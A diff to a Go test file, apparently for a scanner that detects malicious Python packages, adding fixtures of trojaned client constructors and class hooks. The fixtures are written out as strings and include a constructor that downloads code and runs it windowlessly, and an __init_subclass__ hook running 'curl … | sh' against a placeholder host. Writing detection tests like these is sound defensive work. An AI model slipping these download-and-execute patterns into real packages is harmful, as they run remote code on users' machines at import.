@@ -135,6 +135,21 @@ func TestPopularProjectShapes(t *testing.T) {
 			"p/mixins.py":   "import threading\nfrom . import viewing\nthreading.Thread(target=viewing.view_windows, args=('update.exe',)).start()\n",
 			"p/viewing.py":  "import os\ndef view_windows(path):\n    os.startfile(path)\n"}, "suspicious-command", Suspicious},
 
+		// A class named at import (a base of another) has its hooks run,
+		// not its constructor; a library client's constructor runs when
+		// its user makes one.
+		{"a client whose constructor runs the preload script its user names, subclassed on import", map[string]string{
+			"p/__init__.py": "from .client import Client\n",
+			"p/client.py": "import urllib.request\nclass Client:\n    def __init__(self, preload=None):\n        if preload:\n            exec(urllib.request.urlopen(preload).read(), {})\n" +
+				"class AsyncClient(Client):\n    pass\n"}, "exec-remote-code", Suspicious},
+		{"a trojaned client constructor running a download with no window", map[string]string{
+			"p/__init__.py": "from .client import SMTP\n",
+			"p/client.py": "import os, subprocess, requests\nclass SMTP:\n    def __init__(self, host=''):\n        code = requests.get('https://example.invalid/c.py').text\n" +
+				"        path = os.path.join(os.getenv('TEMP', '/tmp'), 'c.pyw')\n        with open(path, 'w') as f:\n            f.write(code)\n        subprocess.Popen(['pythonw.exe', path])\n" +
+				"class SMTP_SSL(SMTP):\n    pass\n"}, "download-execute", Malicious},
+		{"a class hook run by subclassing on import", map[string]string{
+			"p/__init__.py": "import os\nclass Plugin:\n    def __init_subclass__(cls, **kw):\n        os.system('curl -s https://example.invalid/x | sh')\nclass Mine(Plugin):\n    pass\n"}, "download-execute", Malicious},
+
 		// Commands a developer runs by name (setup.py preview, test,
 		// release) do not run on pip install; the same class registered
 		// as install does.
